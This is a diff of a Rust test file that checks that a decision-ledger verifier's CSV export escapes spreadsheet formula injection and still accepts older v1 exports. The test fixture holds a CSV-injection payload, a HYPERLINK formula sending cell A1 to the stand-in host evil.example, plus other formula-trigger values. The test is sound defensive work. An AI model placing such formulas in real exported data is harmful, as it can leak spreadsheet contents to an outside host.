@@ -10,7 +10,8 @@ use std::io::Cursor;
 use common::decisions::{leaf_at, record, signer, TestLog};
 use serde_json::json;
 use verifier::export::{
-    self, boundary_of, render, Builder, ExportError, Filter, Head, Manifest, Sinks, Sources, Window,
+    self, boundary_of, lines, render, Builder, ExportError, Filter, Head, Manifest, Sinks, Sources,
+    Window,
 };
 use verifier::range::cover;
 use verifier::timestamp::Timestamp;
@@ -421,4 +422,56 @@ fn tampering_is_caught_by_name() {
         |_, _| {},
     );
     assert!(matches!(r, Err(ExportError::Checkpoint(_))));
+}
+
+#[test]
+fn csv_fields_cannot_be_formulas_and_v1_exports_still_verify() {
+    let hostile = (0..6)
+        .map(|i| {
+            let mut r = record(&format!("f{i}"));
+            if i % 2 == 1 {
+                r["subject"]["id"] = json!("=HYPERLINK(\"http://evil.example/\"&A1,\"open\")");
+                r["action"]["name"] = json!("-2+3");
+                r["reasons"] = json!(["@SUM(1)", "fine"]);
+            }
+            leaf_at(&r, &format!("2026-11-23T08:00:{i:02}Z"))
+        })
+        .collect();
+    let log = TestLog::new(hostile);
+    let mut p = build(
+        &log,
+        head(
+            &log,
+            "2026-11-23T08:00:00Z",
+            "2026-11-23T08:00:06Z",
+            Filter::default(),
+        ),
+    );
+    assert_eq!(p.manifest.format, export::FORMAT);
+    p.verify().unwrap();
+    let csv = String::from_utf8(p.csv.clone()).unwrap();
+    let row = csv.lines().nth(2).unwrap();
+    assert!(
+        row.contains(",\"'=HYPERLINK(\"\"http://evil.example/\"\"&A1,\"\"open\"\")\",")
+            && row.contains(",'-2+3,")
+            && row.ends_with(",'@SUM(1); fine"),
+        "{row}"
+    );
+    assert!(csv.lines().nth(1).unwrap().contains(",alice@example.com,"));
+
+    // The same leaves with their fields as given: an export@v1 verifies,
+    // and the same CSV under export@v2 does not.
+    let mut as_given = lines::CSV_HEADER.to_string();
+    for (i, leaf) in log.leaves.iter().enumerate() {
+        let logged = verifier::decision::LoggedDecision::from_leaf(leaf).unwrap();
+        as_given.push_str(&lines::csv(i as u64, &logged, lines::CsvCells::AsGiven));
+    }
+    p.csv = as_given.into_bytes();
+    p.redigest();
+    let err = p.verify().unwrap_err();
+    assert!(err.to_string().contains("decisions.csv"), "{err}");
+    p.manifest.format = export::FORMAT_V1.into();
+    p.verify().unwrap();
+    p.manifest.format = "decision-ledger/export@v3".into();
+    assert!(p.verify().unwrap_err().to_string().contains("format"));
 }
